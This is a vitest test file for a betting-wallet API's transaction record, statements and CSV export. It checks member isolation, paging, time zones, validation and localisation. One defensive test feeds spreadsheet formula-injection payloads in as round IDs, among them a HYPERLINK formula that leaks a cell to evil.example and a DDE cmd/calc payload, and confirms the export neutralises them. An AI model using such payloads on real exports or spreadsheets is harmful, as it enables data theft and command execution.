import { randomUUID } from 'node:crypto';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { readCatalogue } from '@playhouse/i18n/node-catalogue';
import type { App } from '../src/app.ts';
import { DIALECTS, createTestApp, createTestMember } from './support/test-app.ts';
import { expectLedgerOk } from './support/ledger.ts';
import { connectVendor, fund, seamlessCall, type SeamlessBody } from './support/seamless.ts';

type Vendor = { code: string; secret: string };
type Member = Awaited<ReturnType<typeof createTestMember>>;
const id = (prefix: string) => `${prefix}-${randomUUID()}`;

/** Runs `fn` with the clock at `iso`, so the movements it posts are dated then. */
async function at<T>(iso: string, fn: () => Promise<T>): Promise<T> {
  vi.useFakeTimers({ toFake: ['Date'] });
  vi.setSystemTime(new Date(iso));
  try {
    return await fn();
  } finally {
    vi.useRealTimers();
  }
}
afterEach(() => {
  vi.useRealTimers();
});

/** A small RFC 4180 reader: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const records = (code: string) =>
  readCatalogue(code as never, 'records') as Record<string, Record<string, string>>;

describe.each(DIALECTS)('account record and statements (%s)', (dialect) => {
  /**
   * Member A's known history (UTC):
   *   2025-01-10 09:00  adjustment +100.00 → 100.00
   *   2025-02-01 10:00  bet   10.00 (r1)   →  90.00
   *   2025-02-01 10:00  win   25.50 (r1)   → 115.50
   *   2025-02-02 12:00  bet    5.00 (r2)   → 110.50
   *   2025-02-02 12:00  rollback of r2     → 115.50
   *   2025-02-03 08:00  bet    7.25 (r3)   → 108.25
   *   2025-02-04 09:00  rollback of a bet never seen (a tombstone: moves nothing, listed nowhere)
   *   2025-02-05 00:00  adjustment  -8.25  → 100.00
   *   2025-03-15 09:00  adjustment +50.00  → 150.00
   * Member B moves money on the same days; none of it may ever show in A's record.
   */
  const ready = (async () => {
    const app = await createTestApp(dialect);
    const jili = await connectVendor(app, 'JILI');
    const a = await createTestMember(app);
    const b = await createTestMember(app);
    const call = async (action: 'bet' | 'win' | 'rollback', body: SeamlessBody) => {
      const res = await seamlessCall(app, jili, action, body);
      if (res.statusCode !== 200) throw new Error(`${action} failed: ${res.body}`);
      return res.json().value as { balance: string };
    };
    const b1 = id('b1');
    const b2 = id('b2');
    const r = { r1: id('r1'), r2: id('r2'), r3: id('r3') };
    await at('2025-01-10T09:00:00Z', () => fund(app, a.username, '100.00'));
    await at('2025-01-10T09:00:00Z', () => fund(app, b.username, '999.00'));
    await at('2025-02-01T10:00:00Z', () =>
      call('bet', { userName: a.username, transactionId: b1, roundId: r.r1, amount: '10.00' }),
    );
    await at('2025-02-01T10:00:05Z', () =>
      call('win', { userName: a.username, transactionId: id('w1'), roundId: r.r1, amount: '25.50' }),
    );
    await at('2025-02-01T11:00:00Z', () =>
      call('bet', { userName: b.username, transactionId: id('bb'), roundId: id('rb'), amount: '99.00' }),
    );
    await at('2025-02-02T12:00:00Z', () =>
      call('bet', { userName: a.username, transactionId: b2, roundId: r.r2, amount: '5.00' }),
    );
    await at('2025-02-02T12:00:01Z', () =>
      call('rollback', {
        userName: a.username,
        transactionId: id('rb2'),
        roundId: r.r2,
        amount: '5.00',
        refTransactionId: b2,
      }),
    );
    await at('2025-02-03T08:00:00Z', () =>
      call('bet', { userName: a.username, transactionId: id('b3'), roundId: r.r3, amount: '7.25' }),
    );
    await at('2025-02-04T09:00:00Z', () =>
      call('rollback', {
        userName: a.username,
        transactionId: id('rb-unknown'),
        roundId: id('r-unknown'),
        amount: '3.00',
        refTransactionId: id('never-seen'),
      }),
    );
    await at('2025-02-05T00:00:00Z', () => fund(app, a.username, '-8.25'));
    await at('2025-03-15T09:00:00Z', () => fund(app, a.username, '50.00'));
    return { app, jili, a, b, rounds: r };
  })();

  const get = async (
    app: App,
    member: Member | undefined,
    url: string,
    headers: Record<string, string> = {},
  ) => {
    const res = await app.inject({
      method: 'GET',
      url,
      headers: { ...(member ? { authorization: member.authorization } : {}), ...headers },
    });
    return res;
  };
  const value = async (app: App, member: Member, url: string) => {
    const res = await get(app, member, url);
    expect(res.statusCode, res.body).toBe(200);
    return res.json().value;
  };

  describe('GET /wps/transaction/record', () => {
    it("lists only the member's own movements, newest first, signed for them, with balance after", async () => {
      const { app, a, b, rounds } = await ready;
      const page = await value(app, a, '/wps/transaction/record?startDate=2025-02-01&endDate=2025-02-28');
      expect(page).toMatchObject({
        startDate: '2025-02-01',
        endDate: '2025-02-28',
        timeZone: 'UTC',
        pageNo: 1,
        pageSize: 20,
        totalCount: 6,
        totalPages: 1,
      });
      const rows = page.list.map((i: Record<string, unknown>) => [
        i.type,
        i.kind,
        i.amount,
        i.balanceAfter,
        new Date(i.createdAt as number).toISOString(),
        i.reference,
      ]);
      expect(rows).toEqual([
        ['adjustment', 'adjustment', '-8.25', '100.00', '2025-02-05T00:00:00.000Z', null],
        ['bet', 'bet', '-7.25', '108.25', '2025-02-03T08:00:00.000Z', rounds.r3],
        ['rollback', 'rollback', '5.00', '115.50', '2025-02-02T12:00:01.000Z', rounds.r2],
        ['bet', 'bet', '-5.00', '110.50', '2025-02-02T12:00:00.000Z', rounds.r2],
        ['win', 'win', '25.50', '115.50', '2025-02-01T10:00:05.000Z', rounds.r1],
        ['bet', 'bet', '-10.00', '90.00', '2025-02-01T10:00:00.000Z', rounds.r1],
      ]);
      expect(page.totals).toEqual({ count: 6, totalIn: '30.50', totalOut: '-30.50', net: '0.00' });

      // B's record holds B's entries and nothing of A's, and the other way round.
      const other = await value(app, b, '/wps/transaction/record?startDate=2025-01-01&endDate=2025-03-31');
      expect(other.list.map((i: { amount: string }) => i.amount)).toEqual(['-99.00', '999.00']);
      const mine = await value(app, a, '/wps/transaction/record?startDate=2025-01-01&endDate=2025-03-31');
      const ids = new Set(mine.list.map((i: { id: number }) => i.id));
      expect(other.list.some((i: { id: number }) => ids.has(i.id))).toBe(false);
      expect(mine.list.some((i: { amount: string }) => ['999.00', '-99.00'].includes(i.amount))).toBe(false);
      await expectLedgerOk(app);
    });

    it('filters by type group and sums the filter, not the page', async () => {
      const { app, a } = await ready;
      const feb = 'startDate=2025-02-01&endDate=2025-02-28';
      const of = async (type: string) =>
        value(app, a, `/wps/transaction/record?${feb}&type=${type}&pageSize=1`);
      const bets = await of('bet');
      expect(bets.totalCount).toBe(3);
      expect(bets.totalPages).toBe(3);
      expect(bets.list).toHaveLength(1);
      expect(bets.list[0].amount).toBe('-7.25');
      expect(bets.totals).toEqual({ count: 3, totalIn: '0.00', totalOut: '-22.25', net: '-22.25' });
      expect((await of('win')).totals).toEqual({
        count: 1,
        totalIn: '25.50',
        totalOut: '0.00',
        net: '25.50',
      });
      expect((await of('rollback')).totals.net).toBe('5.00');
      expect((await of('adjustment')).totals.net).toBe('-8.25');
      for (const type of ['deposit', 'withdrawal', 'bonus', 'transfer']) {
        const none = await of(type);
        expect(none).toMatchObject({ list: [], totalCount: 0, totalPages: 0 });
      }
      expect((await of('all')).totalCount).toBe(6);
      const adjustments = await value(
        app,
        a,
        '/wps/transaction/record?startDate=2025-01-01&endDate=2025-03-31&type=adjustment',
      );
      expect(adjustments.list.map((i: { amount: string }) => i.amount)).toEqual(['50.00', '-8.25', '100.00']);
      await expectLedgerOk(app);
    });

    it('pages through every movement once, in order', async () => {
      const { app, a } = await ready;
      const url = (n: number) =>
        `/wps/transaction/record?startDate=2025-01-01&endDate=2025-03-31&pageSize=3&pageNo=${n}`;
      const pages = [await value(app, a, url(1)), await value(app, a, url(2)), await value(app, a, url(3))];
      expect(pages.map((p) => p.list.length)).toEqual([3, 3, 2]);
      expect(pages.every((p) => p.totalPages === 3 && p.totalCount === 8)).toBe(true);
      const all = pages.flatMap((p) => p.list);
      expect(new Set(all.map((i: { id: number }) => i.id)).size).toBe(8);
      const times = all.map((i: { createdAt: number }) => i.createdAt);
      expect([...times].sort((x, y) => y - x)).toEqual(times);
      expect((await value(app, a, url(4))).list).toEqual([]);
    });

    it('reads days in the time zone asked for', async () => {
      const { app } = await ready;
      const c = await createTestMember(app);
      // 20:00 UTC on 31 January is 04:00 on 1 February in Manila (UTC+8).
      await at('2025-01-31T20:00:00Z', () => fund(app, c.username, '10.00'));
      const day = '/wps/transaction/record?startDate=2025-02-01&endDate=2025-02-01';
      expect((await value(app, c, `${day}&timeZone=Asia/Manila`)).totalCount).toBe(1);
      expect((await value(app, c, day)).totalCount).toBe(0);
      expect((await value(app, c, `${day}&timeZone=America/New_York`)).totalCount).toBe(0);
      const ny = await value(
        app,
        c,
        '/wps/transaction/record?startDate=2025-01-31&endDate=2025-01-31&timeZone=America/New_York',
      );
      expect(ny.totalCount).toBe(1);
      await expectLedgerOk(app);
    });

    it('defaults to the last 7 days, and has nothing for a member whose money never moved', async () => {
      const { app } = await ready;
      const fresh = await createTestMember(app);
      const page = await value(app, fresh, '/wps/transaction/record');
      const today = new Date().toISOString().slice(0, 10);
      expect(page).toMatchObject({ endDate: today, timeZone: 'UTC', list: [], totalCount: 0, totalPages: 0 });
      expect(Date.parse(page.endDate) - Date.parse(page.startDate)).toBe(6 * 86_400_000);
      expect(page.totals).toEqual({ count: 0, totalIn: '0.00', totalOut: '0.00', net: '0.00' });
      // The header's balance call answers the contract's shape.
      expect(await value(app, fresh, '/wps/wallets/gcs')).toEqual({
        sumBalance: '0.00',
        currency: 'PHP',
        currencySymbol: '₱',
        isSingle: 1,
      });
    });

    it('refuses bad queries with field errors, and guests with 401', async () => {
      const { app, a } = await ready;
      const refused = async (query: string, field: string) => {
        const res = await get(app, a, `/wps/transaction/record?${query}`);
        expect(res.statusCode, query).toBe(400);
        expect(res.json().code).toBe('VALIDATION_FAILED');
        expect(Object.keys(res.json().fields), query).toContain(field);
      };
      await refused('pageSize=101', 'pageSize');
      await refused('pageSize=0', 'pageSize');
      await refused('pageNo=0', 'pageNo');
      await refused('type=jackpots', 'type');
      await refused('startDate=2025-02-30', 'startDate');
      await refused('startDate=01/02/2025', 'startDate');
      await refused('startDate=2025-02-10&endDate=2025-02-01', 'endDate');
      await refused('startDate=2025-01-01&endDate=2025-04-01', 'endDate');
      await refused('timeZone=Mars/Olympus', 'timeZone');
      // There is no way to name another member.
      await refused('userName=someone', 'userName');
      expect((await get(app, undefined, '/wps/transaction/record')).statusCode).toBe(401);
      const expired = await get(app, undefined, '/wps/transaction/record', { authorization: 'Bearer nope' });
      expect(expired.statusCode).toBe(401);
    });
  });

  describe('GET /wps/transaction/statement', () => {
    it("computes a period's figures from the journal", async () => {
      const { app, a } = await ready;
      const feb = await value(app, a, '/wps/transaction/statement?startDate=2025-02-01&endDate=2025-02-28');
      expect(feb).toEqual({
        startDate: '2025-02-01',
        endDate: '2025-02-28',
        timeZone: 'UTC',
        currency: 'PHP',
        openingBalance: '100.00',
        closingBalance: '100.00',
        netDeposits: '0.00',
        netWithdrawals: '0.00',
        // -10 + 25.50 - 5 + 5 - 7.25
        netWinLoss: '8.25',
        bonuses: '0.00',
        adjustments: '-8.25',
        netTransfers: '0.00',
        // 10 + 5 - 5 (refunded) + 7.25
        totalStaked: '17.25',
        movements: 6,
      });

      // Exactly three months, from before the first movement: opening 0.00.
      const quarter = await value(
        app,
        a,
        '/wps/transaction/statement?startDate=2025-01-01&endDate=2025-03-31',
      );
      expect(quarter).toMatchObject({
        openingBalance: '0.00',
        closingBalance: '150.00',
        adjustments: '141.75',
        netWinLoss: '8.25',
        movements: 8,
      });
      // A period after the last movement: nothing moved, the balance carries over.
      const later = await value(app, a, '/wps/transaction/statement?startDate=2025-04-01&endDate=2025-04-30');
      expect(later).toMatchObject({ openingBalance: '150.00', closingBalance: '150.00', movements: 0 });
      // Mid-way through a day's movements: opening is the balance after the last one before.
      const second = await value(
        app,
        a,
        '/wps/transaction/statement?startDate=2025-02-02&endDate=2025-02-02',
      );
      expect(second).toMatchObject({
        openingBalance: '115.50',
        closingBalance: '115.50',
        totalStaked: '0.00',
      });

      for (const s of [feb, quarter, later, second]) {
        const cents = (v: string) => Math.round(Number(v) * 100);
        expect(
          cents(s.openingBalance) +
            cents(s.netDeposits) -
            cents(s.netWithdrawals) +
            cents(s.netWinLoss) +
            cents(s.bonuses) +
            cents(s.adjustments) +
            cents(s.netTransfers),
        ).toBe(cents(s.closingBalance));
      }
      await expectLedgerOk(app);
    });

    it('refuses a period over three months with a message in the member language', async () => {
      const { app, a } = await ready;
      const url = '/wps/transaction/statement?startDate=2025-01-01&endDate=2025-04-01';
      const en = await get(app, a, url, { language: 'EN' });
      expect(en.statusCode).toBe(400);
      expect(en.json()).toMatchObject({
        success: false,
        code: 'VALIDATION_FAILED',
        fields: { endDate: ['Choose a period of at most 3 months'] },
      });
      const ar = await get(app, a, url, { language: 'AR' });
      const common = readCatalogue('AR', 'common') as { validation: Record<string, string> };
      expect(ar.json().fields.endDate).toEqual([common.validation.periodTooLong!.replace('{{months}}', '3')]);
      expect(ar.json().fields.endDate[0]).not.toBe(en.json().fields.endDate[0]);
      // The CSV download refuses it the same way, as JSON.
      const csv = await get(app, a, url.replace('statement?', 'statement.csv?'), { language: 'EN' });
      expect(csv.statusCode).toBe(400);
      expect(csv.json().code).toBe('VALIDATION_FAILED');
      expect((await get(app, undefined, url)).statusCode).toBe(401);
    });
  });

  describe('GET /wps/transaction/statement.csv', () => {
    it('downloads one row per movement and the summary, with two-decimal numbers', async () => {
      const { app, a, rounds } = await ready;
      const res = await get(
        app,
        a,
        '/wps/transaction/statement.csv?startDate=2025-01-01&endDate=2025-03-31',
        {
          language: 'EN',
        },
      );
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(
        'attachment; filename="statement-2025-01-01-2025-03-31.csv"',
      );
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.body.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.body.slice(1));
      expect(rows[0]).toEqual(['Date', 'Type', 'Amount', 'Balance after', 'Reference', 'Entry']);
      const movements = rows.slice(
        1,
        rows.findIndex((r) => r.length === 1 && r[0] === ''),
      );
      expect(movements.map((r) => r.slice(0, 5))).toEqual([
        ['2025-01-10 09:00:00', 'Adjustment', '100.00', '100.00', ''],
        ['2025-02-01 10:00:00', 'Bet', '-10.00', '90.00', rounds.r1],
        ['2025-02-01 10:00:05', 'Win', '25.50', '115.50', rounds.r1],
        ['2025-02-02 12:00:00', 'Bet', '-5.00', '110.50', rounds.r2],
        ['2025-02-02 12:00:01', 'Refund', '5.00', '115.50', rounds.r2],
        ['2025-02-03 08:00:00', 'Bet', '-7.25', '108.25', rounds.r3],
        ['2025-02-05 00:00:00', 'Adjustment', '-8.25', '100.00', ''],
        ['2025-03-15 09:00:00', 'Adjustment', '50.00', '150.00', ''],
      ]);
      const summary: Record<string, string[]> = Object.fromEntries(
        rows.slice(rows.findIndex((r) => r[0] === 'Summary') + 1).map((r) => [r[0]!, r.slice(1)]),
      );
      expect(summary).toEqual({
        Period: ['2025-01-01', '2025-03-31'],
        'Time zone': ['UTC'],
        Currency: ['PHP'],
        'Opening balance': ['0.00'],
        'Net deposits': ['0.00'],
        'Net withdrawals': ['0.00'],
        'Net win/loss': ['8.25'],
        Bonuses: ['0.00'],
        Adjustments: ['141.75'],
        'Net transfers': ['0.00'],
        'Total staked': ['17.25'],
        'Closing balance': ['150.00'],
      });
      // Every number in the file has exactly two decimals.
      for (const r of [...movements.map((m) => m.slice(2, 4)), ...Object.values(summary).slice(3)])
        for (const cell of r) expect(cell).toMatch(/^-?\d+\.\d{2}$/);

      // Times in the member's zone, labels in their language.
      const ar = await get(
        app,
        a,
        '/wps/transaction/statement.csv?startDate=2025-02-01&endDate=2025-02-28&timeZone=Asia/Manila',
        { language: 'AR' },
      );
      const arRows = parseCsv(ar.body.slice(1));
      const csv = records('AR').csv!;
      expect(arRows[0]).toEqual([csv.date, csv.type, csv.amount, csv.balanceAfter, csv.reference, csv.entry]);
      expect(arRows[1]!.slice(0, 3)).toEqual(['2025-02-01 18:00:00', records('AR').kinds!.bet, '-10.00']);
      await expectLedgerOk(app);
    });

    it('neutralises cells a spreadsheet would run as formulas', async () => {
      const { app, jili } = await ready;
      const d = await createTestMember(app);
      await at('2025-05-01T08:00:00Z', () => fund(app, d.username, '20.00'));
      const hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        '+1+cmd|/Ccalc!A0',
        '-2+3',
        '@SUM(A1:A9)',
      ];
      let n = 0;
      for (const roundId of hostile) {
        const res = await at(`2025-05-01T09:00:0${n++}Z`, () =>
          seamlessCall(app, jili as Vendor, 'bet', {
            userName: d.username,
            transactionId: id('x'),
            roundId: roundId.replace(/ /g, ''),
            amount: '1.00',
          }),
        );
        expect(res.statusCode, res.body).toBe(200);
      }
      const res = await get(
        app,
        d,
        '/wps/transaction/statement.csv?startDate=2025-05-01&endDate=2025-05-01',
        {
          language: 'EN',
        },
      );
      expect(res.statusCode).toBe(200);
      const rows = parseCsv(res.body.slice(1));
      const references = rows.slice(2, 6).map((r) => r[4]);
      expect(references).toEqual(hostile.map((h) => `'${h.replace(/ /g, '')}`));
      // The raw text: quotes doubled inside a quoted cell, debits still plain numbers.
      expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
      expect(rows.slice(2, 6).map((r) => r[2])).toEqual(['-1.00', '-1.00', '-1.00', '-1.00']);
      for (const row of rows)
        for (const cell of row) if (!/^-?\d+\.\d{2}$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      await expectLedgerOk(app);
    });

    it('is documented in OpenAPI with the other member calls', async () => {
      const { app } = await ready;
      const doc = (await app.inject({ url: '/wps/docs/json' })).json() as {
        paths: Record<string, { get?: { parameters?: { name: string }[] } }>;
      };
      for (const path of [
        '/wps/transaction/record',
        '/wps/transaction/statement',
        '/wps/transaction/statement.csv',
      ])
        expect(doc.paths[path]?.get, path).toBeDefined();
      const params = doc.paths['/wps/transaction/record']!.get!.parameters!.map((p) => p.name);
      expect(params).toEqual(
        expect.arrayContaining(['pageNo', 'pageSize', 'type', 'startDate', 'endDate', 'timeZone']),
      );
    });

    it('is a file of only the header and summary for a period without movements, and needs a session', async () => {
      const { app, a } = await ready;
      const res = await get(
        app,
        a,
        '/wps/transaction/statement.csv?startDate=2024-01-01&endDate=2024-01-31',
        {
          language: 'EN',
        },
      );
      const rows = parseCsv(res.body.slice(1));
      expect(rows[1]).toEqual(['']);
      expect(rows.find((r) => r[0] === 'Closing balance')).toEqual(['Closing balance', '0.00']);
      const guest = await get(app, undefined, '/wps/transaction/statement.csv');
      expect(guest.statusCode).toBe(401);
      expect(guest.json()).toMatchObject({ success: false, code: 'NOT_LOGGED_IN' });
    });
  });
});
